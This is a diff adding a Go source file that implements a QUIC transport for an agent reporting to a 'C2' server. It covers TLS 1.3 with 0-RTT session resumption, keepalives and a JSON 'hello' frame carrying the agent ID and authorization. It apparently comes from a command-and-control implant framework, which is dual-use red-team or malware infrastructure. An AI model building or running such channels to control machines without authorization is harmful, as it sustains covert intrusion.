@@ -0,0 +1,101 @@
+package transport
+
+import (
+	"context"
+	"crypto/tls"
+	"encoding/json"
+	"net/http"
+	"net/url"
+	"time"
+
+	"github.com/quic-go/quic-go"
+)
+
+// quicTransport carries newline-delimited JSON over a single QUIC stream.
+// QUIC survives address changes and short outages without a new handshake,
+// and cached session tickets allow 0-RTT reconnects
+type quicTransport struct {
+	host   Host
+	conn   quic.Connection
+	stream quic.Stream
+	enc    *json.Encoder
+	dec    *json.Decoder
+}
+
+// QUICProtocol is the ALPN identifier the C2 must accept
+const QUICProtocol = "nop-agent/1"
+
+// quicSessions is shared between dials so reconnects can resume with 0-RTT
+var quicSessions = tls.NewLRUClientSessionCache(8)
+
+func NewQUIC(h Host) Transport {
+	return &quicTransport{host: h}
+}
+
+func (t *quicTransport) Dial(u *url.URL, header http.Header) error {
+	tlsConfig, err := t.host.Credentials().TLSConfig()
+	if err != nil {
+		return err
+	}
+	if tlsConfig == nil {
+		tlsConfig = &tls.Config{MinVersion: tls.VersionTLS13}
+	}
+	tlsConfig.NextProtos = []string{QUICProtocol}
+	tlsConfig.ClientSessionCache = quicSessions
+
+	idle := 120 * time.Second
+	if val, ok := t.host.Config()["quic_idle_timeout"].(float64); ok && val > 0 {
+		idle = time.Duration(val) * time.Second
+	}
+	config := &quic.Config{
+		MaxIdleTimeout:  idle,
+		KeepAlivePeriod: idle / 4,
+	}
+
+	ctx, cancel := context.WithCancel(context.Background())
+	if handshake := t.host.Timeout("handshake_timeout", 10*time.Second); handshake > 0 {
+		ctx, cancel = context.WithTimeout(context.Background(), handshake)
+	}
+	defer cancel()
+	conn, err := quic.DialAddrEarly(ctx, u.Host, tlsConfig, config)
+	if err != nil {
+		return err
+	}
+	stream, err := conn.OpenStreamSync(ctx)
+	if err != nil {
+		conn.CloseWithError(0, "stream failed")
+		return err
+	}
+
+	t.conn, t.stream = conn, stream
+	t.enc, t.dec = json.NewEncoder(stream), json.NewDecoder(stream)
+
+	// QUIC has no request headers; the first frame carries them instead
+	return t.enc.Encode(map[string]interface{}{
+		"type":          "hello",
+		"agent_id":      t.host.AgentID(),
+		"path":          u.Path,
+		"authorization": header.Get("Authorization"),
+	})
+}
+
+func (t *quicTransport) Send(v interface{}) error {
+	return t.enc.Encode(v)
+}
+
+func (t *quicTransport) Receive(v *map[string]interface{}) error {
+	return t.dec.Decode(v)
+}
+
+func (t *quicTransport) SetReadDeadline(deadline time.Time) error {
+	return t.stream.SetReadDeadline(deadline)
+}
+
+func (t *quicTransport) SetWriteDeadline(deadline time.Time) error {
+	return t.stream.SetWriteDeadline(deadline)
+}
+
+func (t *quicTransport) Close() error {
+	t.stream.Close()
+	return t.conn.CloseWithError(0, "closing")
+}